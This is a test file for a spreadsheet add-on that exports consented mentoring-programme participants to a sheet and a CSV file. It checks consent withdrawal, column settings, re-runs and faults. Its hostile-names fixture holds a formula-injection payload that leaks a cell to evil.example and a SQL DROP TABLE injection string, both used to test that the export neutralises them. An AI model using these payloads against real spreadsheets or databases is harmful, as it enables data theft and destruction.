/**
 * «Выгрузка для платформы «Наставник»» end to end in the emulator: the sheet and the CSV file,
 * consent, hostile names, the columns setting, re-runs and faults at any service call.
 */
import { DEFAULT_PLATFORM_COLUMNS, PLATFORM_FILE, PLATFORM_SHEET } from '../src/core/export/platform';
import { defuse } from '../src/core/export/csv';
import { SHEET } from '../src/core/workbook/sheets';
import { isStoredBytes } from '../local/emulator/drive-store';
import type { Workspace } from '../local/emulator/workspace';
import { look } from './helpers/addon';
import { cachedSetup, faultSweep, workspaceState } from './helpers/faults';
import { approvedAfterMeeting } from './helpers/people';
import { Outcome, table } from './helpers/programme';
import { parseCsv } from './core/export/rfc4180';

const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1;"Нажми")',
  quote: 'Орлова"; DROP TABLE наставники; --',
  lines: 'Ким\r\nНадежда\nСергеевна',
};

/** Someone typed hostile names over two consented people on the bases (as plain text, as the add-on would write them). */
function hostile(ws: Workspace) {
  look(ws, (ss) => {
    const rename = (sheetName: string, from: string, to: string) => {
      const sheet = ss.getSheetByName(sheetName)!;
      const values = sheet.getDataRange().getValues();
      const col = values[0].indexOf('ФИО');
      const row = values.findIndex((r) => r[col] === from);
      if (row < 0) throw new Error(`no ${from}`);
      sheet
        .getRange(row + 1, col + 1)
        .setNumberFormat('@')
        .setValue(to);
    };
    rename(SHEET.mentees, 'Смирнова Алиса Андреевна', HOSTILE.formula);
    rename(SHEET.mentees, 'Волкова Анна Павловна', HOSTILE.quote);
    rename(SHEET.mentors, 'Громов Олег Павлович', HOSTILE.lines);
  });
}

function start() {
  const p = approvedAfterMeeting();
  hostile(p.ws);
  return p;
}

const csvFiles = (ws: Workspace) => [...ws.drive.entries.values()].filter((e) => e.mimeType === 'text/csv' && !e.trashed);

function csvText(ws: Workspace): { id: string; name: string; folder: string; bytes: Buffer; text: string } {
  const files = csvFiles(ws);
  expect(files).toHaveLength(1);
  const [file] = files;
  if (!isStoredBytes(file.content)) throw new Error('the CSV has no content');
  const bytes = Buffer.from(file.content.bytes);
  return { id: file.id, name: file.name, folder: ws.drive.folderPath(file).join('/'), bytes, text: bytes.toString('utf8') };
}

const exportSheet = (ws: Workspace) =>
  look(
    ws,
    (ss) =>
      ss
        .getSheetByName(PLATFORM_SHEET)
        ?.getDataRange()
        .getValues()
        .map((r) => r.map(String)) ?? null,
  );

function setColumns(ws: Workspace, value: string) {
  look(ws, (ss) => {
    const sheet = ss.getSheetByName(SHEET.settings)!;
    const labels = sheet
      .getDataRange()
      .getValues()
      .map((r) => r[0]);
    const row = labels.indexOf('Выгрузка «Наставник»: столбцы');
    expect(row).toBeGreaterThan(0);
    sheet.getRange(row + 1, 2).setValue(value);
  });
}

/** Consent withdrawn in «Согласия» (the date typed), no import run since. */
function withdraw(ws: Workspace, name: string) {
  look(ws, (ss) => {
    const sheet = ss.getSheetByName(SHEET.consents)!;
    const values = sheet.getDataRange().getValues();
    const row = values.findIndex((r) => r[2] === name);
    sheet.getRange(row + 1, values[0].indexOf('Дата отзыва') + 1).setValue(new Date('2026-11-02T09:00:00Z'));
  });
}

const idOf = (ws: Workspace, sheet: string, name: string) => String(table(ws, sheet).find((r) => r['ФИО'] === name)!.ID);

describe('exportForPlatform', () => {
  test('the sheet and the CSV hold the same table: consented people only, Cyrillic and hostile names intact', () => {
    const { ws, runner } = start();
    const result = runner.call('exportForPlatform') as Outcome;
    expect(result.ok).toBe(true);

    const sheet = exportSheet(ws)!;
    expect(sheet[0]).toEqual(DEFAULT_PLATFORM_COLUMNS.split('; '));
    const csv = csvText(ws);
    expect(csv.name).toBe(PLATFORM_FILE);
    expect(csv.folder).toMatch(/^Наставничество — /);
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.text.endsWith('\r\n')).toBe(true);
    const parsed = parseCsv(csv.text.slice(1));
    // The same cells, a formula start defused in the file only.
    expect(parsed).toEqual(sheet.map((r) => r.map(defuse)));

    const col = (name: string) => sheet[0].indexOf(name);
    const names = parsed.slice(1).map((r) => r[col('ФИО')]);
    expect(names).toContain(`'${HOSTILE.formula}`);
    expect(names).toContain(HOSTILE.quote);
    expect(names).toContain(HOSTILE.lines.replace(/\r\n/g, '\n'));
    expect(names).toContain('Белова Ирина Сергеевна');
    // In the sheet the formula is text, never run.
    const formulas = look(ws, (ss) => ss.getSheetByName(PLATFORM_SHEET)!.getDataRange().getFormulas().flat().filter(Boolean));
    expect(formulas).toEqual([]);
    expect(sheet.map((r) => r[col('ФИО')])).toContain(HOSTILE.formula);

    // «Без Согласия Иван» refused processing: neither his name nor his ID, anywhere.
    const refusedId = idOf(ws, SHEET.mentees, 'Без Согласия Иван');
    for (const text of [csv.text, JSON.stringify(sheet)]) {
      expect(text).not.toContain('Без Согласия Иван');
      expect(text).not.toContain(refusedId);
    }
    // Every consented mentor and mentee is there, with the pairs approved by the order.
    const people = [...table(ws, SHEET.mentors), ...table(ws, SHEET.mentees)].filter((p) => String(p['Согласие']).startsWith('есть'));
    expect(new Set(parsed.slice(1).map((r) => r[col('ID')]))).toEqual(new Set(people.map((p) => String(p.ID))));
    const approved = table(ws, SHEET.pairs).filter((r) => r['Статус'] === 'утверждена');
    expect(approved.length).toBeGreaterThan(0);
    for (const pair of approved) {
      const menteeRow = parsed.find((r) => r[col('ID')] === pair['ID наставляемого'] && r[col('Роль')] === 'наставляемый');
      if (!menteeRow) continue;
      expect(menteeRow[col('Пара')]).toBe(String(pair['Группа'] || pair.ID));
      expect(menteeRow[col('Форма наставничества')]).toBe(pair['Форма']);
      expect(menteeRow[col('Дата начала')]).toMatch(/^\d\d\.\d\d\.\d{4}$|^$/);
    }
    expect(result.message).toContain('Выгружено: ');
    expect(result.message).toContain(`файл «${PLATFORM_FILE}»`);
    expect(result.message).toContain('Не выгружены, потому что нет действующего согласия на обработку персональных данных: 1 участник');
  });

  test('a re-run updates the same file; a withdrawal typed in «Согласия» removes the person from both at the next export', () => {
    const { ws, runner } = start();
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    const first = csvText(ws);
    const state = workspaceState(ws, ['sheets', 'drive', 'properties'], { ignoreSheets: [SHEET.log] });
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    expect(workspaceState(ws, ['sheets', 'drive', 'properties'], { ignoreSheets: [SHEET.log] })).toEqual(state);
    expect(csvText(ws)).toEqual(first);

    const mentorId = idOf(ws, SHEET.mentors, 'Белова Ирина Сергеевна');
    const before = exportSheet(ws)!;
    expect(JSON.stringify(before)).toContain(mentorId);
    withdraw(ws, 'Белова Ирина Сергеевна');
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    const after = csvText(ws);
    expect(after.id).toBe(first.id);
    const sheet = exportSheet(ws)!;
    for (const text of [after.text, JSON.stringify(sheet)]) {
      expect(text).not.toContain('Белова Ирина Сергеевна');
      expect(text).not.toContain(mentorId);
    }
    // Her rows are gone, not blanked at the bottom: the sheet is exactly the CSV.
    expect(parseCsv(after.text.slice(1))).toEqual(sheet.map((r) => r.map(defuse)));
    expect(sheet.length).toBeLessThan(before.length);
    // Her mentee is still exported, without her.
    const menteeRows = sheet.filter((r) => r[sheet[0].indexOf('Роль')] === 'наставляемый' && r[sheet[0].indexOf('Статус пары')] !== '');
    expect(menteeRows.length).toBeGreaterThan(0);
  });

  test('a withdrawal processed by «Импортировать ответы анкет» reaches the export at once: sheet and file made again without the person', () => {
    const { ws, runner } = start();
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    const first = csvText(ws);
    const mentorId = idOf(ws, SHEET.mentors, 'Белова Ирина Сергеевна');
    withdraw(ws, 'Белова Ирина Сергеевна');
    const imported = runner.call('importResponses') as Outcome;
    expect(imported.ok).toBe(true);
    expect(imported.message).toContain('Выгрузка для платформы «Наставник» сделана заново');
    const after = csvText(ws);
    expect(after.id).toBe(first.id);
    for (const text of [after.text, JSON.stringify(exportSheet(ws))]) {
      expect(text).not.toContain('Белова Ирина Сергеевна');
      expect(text).not.toContain(mentorId);
    }
    // Nothing stale left: the next import leaves the export alone.
    const state = workspaceState(ws, ['drive'], {});
    expect((runner.call('importResponses') as Outcome).message).not.toContain('Выгрузка для платформы');
    expect(workspaceState(ws, ['drive'], {})).toEqual(state);
  });

  test('the export cannot be remade (a broken columns setting): after a withdrawal it is emptied and its file binned', () => {
    const { ws, runner } = start();
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    setColumns(ws, 'ФИО; Любимый цвет');
    withdraw(ws, 'Белова Ирина Сергеевна');
    const imported = runner.call('importResponses') as Outcome;
    expect(imported.ok).toBe(true);
    expect(imported.message).toContain('очищена');
    expect(csvFiles(ws)).toHaveLength(0);
    expect(JSON.stringify(exportSheet(ws))).not.toContain('Белова');
  });

  test('the columns and their order follow «Настройки»; an unknown name writes nothing and says which', () => {
    const { ws, runner } = start();
    setColumns(ws, 'ФИО; ID; Роль; Телефон; Пара');
    const refused = runner.call('exportForPlatform') as Outcome;
    expect(refused.ok).toBe(false);
    expect(refused.message).toContain('неизвестный столбец: «Телефон»');
    expect(refused.message).toContain('Можно указать: Роль; ID; ФИО;');
    expect(exportSheet(ws)).toBeNull();
    expect(csvFiles(ws)).toHaveLength(0);

    setColumns(ws, 'ФИО; ID; Роль; Пара');
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    const sheet = exportSheet(ws)!;
    expect(sheet[0]).toEqual(['ФИО', 'ID', 'Роль', 'Пара']);
    expect(parseCsv(csvText(ws).text.slice(1))[0]).toEqual(['ФИО', 'ID', 'Роль', 'Пара']);
    // Fewer columns than the last export: nothing of the old ones stays beside them.
    setColumns(ws, 'ID; Роль');
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    expect(exportSheet(ws)!.every((r) => r.length === 2)).toBe(true);
  });

  test('a file the curator binned is made again; one she renamed or moved is still the one updated', () => {
    const { ws, runner } = start();
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    const first = csvText(ws);
    ws.drive.get(first.id)!.trashed = true;
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    const second = csvText(ws);
    expect(second.id).not.toBe(first.id);
    expect(second.text).toBe(first.text);

    const entry = ws.drive.get(second.id)!;
    entry.name = 'для УСР.csv';
    entry.parents = [];
    withdraw(ws, 'Белова Ирина Сергеевна');
    expect((runner.call('exportForPlatform') as Outcome).ok).toBe(true);
    const third = csvText(ws);
    expect([third.id, third.name]).toEqual([second.id, 'для УСР.csv']);
    expect(third.text).not.toContain('Белова Ирина Сергеевна');
  });

  test('a fault at any service call, then a re-run: the same sheet, one CSV file with the same content', () => {
    const snapshot = (ws: Workspace) => ({
      state: workspaceState(ws, ['sheets', 'drive', 'properties'], { ignoreSheets: [SHEET.log] }),
      csv: csvFiles(ws).map((f) => (isStoredBytes(f.content) ? Buffer.from(f.content.bytes).toString('hex') : null)),
    });
    const report = faultSweep({ setup: cachedSetup(start), operation: { name: 'exportForPlatform' }, snapshot, maxFaults: 30 });
    expect(report.diffs).toEqual([]);
    expect(report.faults).toBeGreaterThanOrEqual(20);
  });
});
